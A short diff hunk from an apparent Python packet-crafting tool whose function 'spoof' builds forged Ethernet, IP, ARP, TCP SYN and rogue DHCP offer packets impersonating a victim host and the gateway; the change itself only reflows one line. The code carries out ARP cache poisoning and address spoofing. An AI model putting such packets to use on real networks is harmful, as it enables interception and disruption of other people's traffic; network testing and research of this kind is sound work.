@@ -162,7 +162,8 @@ def spoof(iface, gw_mac, victim_ip, victim_mac, rounds):
             Ether(src=mac, dst=gw_mac) / IP(src=victim_ip, dst=gateway) / UDP(sport=sport, dport=7) / b"spoofed",
             Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, hwsrc=mac, psrc=victim_ip, pdst=victim_ip),
             Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=2, hwsrc=mac, psrc=gateway, pdst=gateway),
-            Ether(src=victim_mac, dst=gw_mac) / IP(src=victim_ip, dst=gateway) / TCP(sport=sport, dport=8080, flags="S"),
+            Ether(src=victim_mac, dst=gw_mac) / IP(src=victim_ip, dst=gateway)
+            / TCP(sport=sport, dport=8080, flags="S"),
             Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / IP(src=me, dst="255.255.255.255") / UDP(sport=67, dport=68)
             / BOOTP(op=2, yiaddr=victim_ip, xid=0x12345678 + i) / DHCP(options=[("message-type", "offer"), "end"]),
         ]
